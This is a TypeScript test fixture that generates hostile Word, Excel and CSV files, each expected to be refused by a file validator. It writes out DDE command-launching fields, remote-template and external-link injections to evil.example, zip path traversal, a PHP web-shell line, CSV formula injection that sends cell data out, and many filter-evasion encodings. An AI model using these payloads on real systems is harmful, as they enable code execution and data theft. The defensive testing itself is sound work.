// Word documents, workbooks, and CSV tables with macros, fields, formulas, embedded or remote content, or wrong headers.

import { toBytes } from '../../../support/files/bytes.ts';
import {
  listDocxParts,
  listXlsxParts,
  toRelationship,
  toRelationships,
  withPart,
  writeZip,
  type ZipEntry,
} from '../../../support/files/office.ts';
import type { HostileFile } from './hostile-file.ts';

const docx = listDocxParts();
const xlsx = listXlsxParts();
const outside = 'Target="https://evil.example/a.dotm"';

/** Parts that are refused by their name or content. */
const badParts: readonly ZipEntry[] = [
  { name: 'word/vbaProject.bin', data: 'VBA' },
  { name: 'word/VBAPROJECT.BIN', data: 'VBA' },
  { name: 'word/macros/vbaProject.bin', data: 'VBA' },
  { name: 'word/vbaData.xml', data: '<a/>' },
  { name: 'word/embeddings/oleObject1.bin', data: 'OLE' },
  { name: 'word/embeddings/a.exe', data: 'MZ' },
  { name: 'word/activeX/activeX1.xml', data: '<a/>' },
  { name: 'word/embeddings/inner.docx', data: writeZip(docx) },
  { name: '../../evil.xml', data: '<a/>' },
  { name: '/etc/passwd', data: 'root' },
  { name: 'word\\..\\..\\evil.xml', data: '<a/>' },
  { name: 'word/secret.xml', data: '<a/>', flags: 1 },
  {
    name: 'word/fields.xml',
    data: '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
  },
];

/** Relationships that make a program load remote content when it opens the document. */
const badRelationships: readonly (readonly [string, string])[] = [
  [
    'a template from outside',
    toRelationship('attachedTemplate', `${outside} TargetMode="External"`),
  ],
  [
    'a template from outside in other quotes',
    toRelationship(
      'attachedTemplate',
      `Target='https://evil.example/a.dotm' TargetMode = 'External'`,
    ),
  ],
  [
    'a template from outside with its mode as an entity',
    toRelationship('attachedTemplate', `${outside} TargetMode="&#69;xternal"`),
  ],
  [
    'a template from outside on another line',
    toRelationship('attachedTemplate', `${outside}\n\tTargetMode\n=\n"External"`),
  ],
  [
    'a template from a share',
    toRelationship(
      'attachedTemplate',
      'Target="file:///\\\\evil.example\\a.dotm" TargetMode="External"',
    ),
  ],
  ['a linked object from outside', toRelationship('oleObject', `${outside} TargetMode="External"`)],
  ['a frame from outside', toRelationship('frame', `${outside} TargetMode="External"`)],
  [
    'a sub-document from outside',
    toRelationship('subDocument', `${outside} TargetMode="External"`),
  ],
  ['a picture from outside', toRelationship('image', `${outside} TargetMode="External"`)],
  [
    'an alternative part from outside',
    toRelationship('aFChunk', `${outside} TargetMode="External"`),
  ],
  [
    'a relationship behind a declared entity',
    `<!DOCTYPE a [<!ENTITY e "External">]>${toRelationship('attachedTemplate', `${outside} TargetMode="&e;"`)}`,
  ],
];

export const officeAttacks: readonly HostileFile[] = [
  ...badParts.map((part) =>
    toAttack(`with ${JSON.stringify(part.name)}`, () => writeZip([...docx, part])),
  ),
  ...badRelationships.map(([name, relationship]) =>
    toAttack(`with ${name}`, () => writeZip(withRelationships(toRelationships(relationship)))),
  ),
  toAttack('with its relationships in UTF-16', () =>
    writeZip(
      withRelationships(
        Buffer.from(
          `\ufeff${toRelationships(toRelationship('attachedTemplate', `${outside} TargetMode="External"`)).replace('UTF-8', 'UTF-16')}`,
          'utf16le',
        ),
      ),
    ),
  ),
  toAttack('with macros by its main type', () => writeZip(listDocxParts('docm'))),
  toAttack('with macros by its main type, as a template', () => writeZip(listDocxParts('dotm'))),
  toAttack('of another kind', () => writeZip(xlsx)),
  toAttack('without its types', () => writeZip(docx.slice(1))),
  toAttack('with its types twice', () => writeZip([...docx, ...listDocxParts('docm').slice(0, 1)])),
  toAttack('with a part twice', () =>
    writeZip([...docx, { name: 'word/document.xml', data: '<a/>' }]),
  ),
  toAttack('with a part twice, in other letters', () =>
    writeZip([...docx, { name: 'WORD/Document.xml', data: '<a/>' }]),
  ),
  toAttack('with a part of a wrong length', () =>
    writeZip([...docx, { name: 'word/a.xml', data: 'a'.repeat(5000), uncompressedSize: 10 }]),
  ),
  toAttack('with something before it', () =>
    writeZip(docx, { before: toBytes('<html><script>alert(1)</script>') }),
  ),
  toAttack('with something after it', () =>
    Buffer.concat([writeZip(docx), toBytes('<?php system($_GET[0]); ?>')]),
  ),
  toAttack('with two directories', () =>
    Buffer.concat([writeZip(listDocxParts('docm')), writeZip(docx)]),
  ),
  toAttack(
    'that is a spreadsheet with macros',
    () => writeZip([...listXlsxParts('xlsm'), { name: 'xl/vbaProject.bin', data: 'VBA' }]),
    'xlsx',
  ),
  toAttack(
    'that is a spreadsheet with an old macro sheet',
    () => writeZip(withPart(xlsx, { name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' })),
    'xlsx',
  ),
  toAttack(
    'that is a spreadsheet with data from outside',
    () =>
      writeZip([
        ...xlsx,
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          data: toRelationships(
            toRelationship('oleObjectLink', `${outside} TargetMode="External"`),
          ),
        },
      ]),
    'xlsx',
  ),
  toAttack(
    'that is a spreadsheet with connections',
    () =>
      writeZip(
        withPart(xlsx, {
          name: 'xl/connections.xml',
          data: '<connections><connection><webPr url="https://evil.example"/></connection></connections>',
        }),
      ),
    'xlsx',
  ),
];

function withRelationships(data: string | Uint8Array): readonly ZipEntry[] {
  return withPart(docx, { name: 'word/_rels/settings.xml.rels', data });
}

function toAttack(name: string, make: () => Uint8Array, extension = 'docx'): HostileFile {
  return {
    group: 'office document',
    name: `document ${name}`,
    extension,
    expected: 'refused',
    make,
  };
}

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const program = String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`;
const outsideTemplate = toRelationship('attachedTemplate', `${outside} TargetMode="External"`);

/** The content of a paragraph. */
const fields: readonly (readonly [string, string])[] = [
  ['a program', `<w:instrText>${program}</w:instrText>`],
  ['a program in an attribute', `<w:fldSimple w:instr="${program.replaceAll('"', '&quot;')}"/>`],
  ['a program in an attribute with blanks', `<w:fldSimple w:instr  =\n  '${program}'/>`],
  [
    'a program in capitals and not',
    `<w:instrText>${program.replace('DDEAUTO', 'dDeAuTo')}</w:instrText>`,
  ],
  [
    'a program in pieces',
    `<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\a.exe</w:instrText></w:r>`,
  ],
  ['a program by numbers', `<w:instrText>${program.replace('D', '&#68;')}</w:instrText>`],
  [
    'a program around a comment',
    `<w:instrText>${program.replace('DDE', 'DD<!-- -->E')}</w:instrText>`,
  ],
  [
    'a program around an instruction',
    `<w:instrText>${program.replace('DDE', 'DD<?a?>E')}</w:instrText>`,
  ],
  ['a program in raw text', `<w:instrText><![CDATA[${program}]]></w:instrText>`],
  [
    'a program under another prefix',
    `<${'a'.repeat(60)}:instrText xmlns:${'a'.repeat(60)}="${word}">${program}</${'a'.repeat(60)}:instrText>`,
  ],
  ['a program under no prefix', `<instrText xmlns="${word}">${program}</instrText>`],
  ['a link', '<w:instrText>LINK Word.Document.8 "https://evil.example/a.doc" "" \\a</w:instrText>'],
  ['a text from outside', '<w:instrText>INCLUDETEXT "https://evil.example/a.docx"</w:instrText>'],
  [
    'a picture from outside',
    '<w:instrText>INCLUDEPICTURE "https://evil.example/a.png" \\d</w:instrText>',
  ],
  [
    'a picture from outside by its old name',
    '<w:instrText>IMPORT "https://evil.example/a.png"</w:instrText>',
  ],
  [
    'a picture from a share',
    '<w:instrText>INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"</w:instrText>',
  ],
];

export const officeFields: readonly HostileFile[] = [
  ...fields.map(([name, field]) =>
    toFieldAttack(`a field with ${name}`, 'docx', () =>
      writeZip(
        withPart(docx, {
          name: 'word/document.xml',
          data: `<?xml version="1.0"?><w:document xmlns:w="${word}"><w:body><w:p>${field}</w:p></w:body></w:document>`,
        }),
      ),
    ),
  ),
  toFieldAttack('relationships in EBCDIC', 'docx', () =>
    writeZip(
      withRelationships(
        toEbcdic(toRelationships(outsideTemplate).replace('UTF-8', 'ebcdic-cp-us')),
      ),
    ),
  ),
  toFieldAttack('relationships that name their encoding late', 'docx', () =>
    writeZip(
      withRelationships(
        toBytes(
          toRelationships('').replace(' encoding="UTF-8"', `${' '.repeat(400)}encoding="utf-7"`),
        ),
      ),
    ),
  ),
  toFieldAttack('relationships with a prefix', 'docx', () =>
    writeZip(
      withRelationships(
        toBytes(
          toRelationships(outsideTemplate)
            .replaceAll('Relationship', 'r:Relationship')
            .replace('xmlns=', 'xmlns:r='),
        ),
      ),
    ),
  ),
  toFieldAttack('relationships in capitals', 'docx', () =>
    writeZip([
      ...docx,
      { name: 'WORD/_RELS/SETTINGS.XML.RELS', data: toRelationships(outsideTemplate) },
    ]),
  ),
  toFieldAttack('a link to a program in a part of another name', 'xlsx', () =>
    writeZip([
      ...xlsx.filter(({ name }) => name !== 'xl/_rels/workbook.xml.rels'),
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: toRelationships(toRelationship('externalLink', 'Target="other/a.xml"')),
      },
      {
        name: 'xl/other/a.xml',
        data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      },
    ]),
  ),
  toFieldAttack('a link to a program under a long prefix', 'xlsx', () =>
    writeZip([
      ...xlsx,
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: `<a/><${'a'.repeat(80)}:ddeLink ddeService="cmd" ddeTopic="/c calc"/>`,
      },
    ]),
  ),
  toFieldAttack('macros in a part of another name', 'docx', () =>
    writeZip([
      ...withRelationships(
        toBytes(
          toRelationships(
            '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.xml"/>',
          ),
        ),
      ),
      { name: 'word/a.xml', data: '<a/>' },
    ]),
  ),
  toFieldAttack('a page taken in', 'docx', () =>
    writeZip([
      ...withRelationships(toBytes(toRelationships(toRelationship('aFChunk', 'Target="a.xml"')))),
      { name: 'word/a.xml', data: '<html><script>alert(1)</script></html>' },
    ]),
  ),
];

/** Code page 37, for the characters of these parts. */
function toEbcdic(text: string): Buffer {
  const ascii =
    ' <(+|&!$*);-/,%_>?:#@\'="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.\n';
  const codes =
    '404c4d4e4f505a5b5c5d5e60616b6c6d6e6f7a7b7c7d7e7f818283848586878889919293949596979899a2a3a4a5a6a7a8a9c1c2c3c4c5c6c7c8c9d1d2d3d4d5d6d7d8d9e2e3e4e5e6e7e8e9f0f1f2f3f4f5f6f7f8f94b25';
  const table = Buffer.from(codes, 'hex');
  return Buffer.from(Array.from(text, (character) => table[ascii.indexOf(character)] ?? 0x40));
}

function toFieldAttack(name: string, extension: string, make: () => Uint8Array): HostileFile {
  return { ...toAttack('', make, extension), name: `${extension} with ${name}` };
}

const byteOrderMark = '\xef\xbb\xbf';

const cells: readonly (readonly [string, string])[] = [
  ['a program', "=cmd|'/C calc'!A0"],
  ['a program after a sign', "+cmd|'/C calc'!A0"],
  ['a program after a minus', "-2+3+cmd|'/C calc'!A0"],
  ['a function of old', '@SUM(1+1)*cmd|"/C calc"!A0'],
  ['a program in quotes', '"=cmd|\'/C calc\'!A0"'],
  ['a program after a blank', " =cmd|'/C calc'!A0"],
  ['a program after a tab', "\t=cmd|'/C calc'!A0"],
  ['an address', '=HYPERLINK("https://evil.example?"&A1)'],
  ['an address with a blank before the bracket', '=HYPERLINK ("https://evil.example?"&A1)'],
  ['an address after a calculation', '=1+1+HYPERLINK("https://evil.example")'],
  ['data from outside', '=IMPORTXML("https://evil.example","//a")'],
  ['a service from outside', '=WEBSERVICE("https://evil.example")'],
  ['a function behind its name', '=_xlfn.WEBSERVICE("https://evil.example")'],
  ['an address of wide letters', '\xef\xbc\x9dHYPERLINK("https://evil.example")'],
];

const places: readonly (readonly [string, (cell: string) => string])[] = [
  ['first', (cell) => `${cell},1\n`],
  ['first, after a byte order mark', (cell) => `${byteOrderMark}${cell},1\n`],
  ['in the middle', (cell) => `date,amount\n2026-03-01,${cell}\n2026-03-02,1\n`],
  ['after a semicolon', (cell) => `date;amount\r\n2026-03-01;${cell}`],
  ['on a line of its own in quotes', (cell) => `a,"b\n${cell.replaceAll('"', '""')}"\n`],
];

export const tableAttacks: readonly HostileFile[] = cells.flatMap(([what, cell]) =>
  places.map(([where, place]) => ({
    group: 'table',
    name: `${what}, ${where}`,
    extension: 'csv',
    expected: 'refused',
    make: () => toBytes(place(cell)),
  })),
);
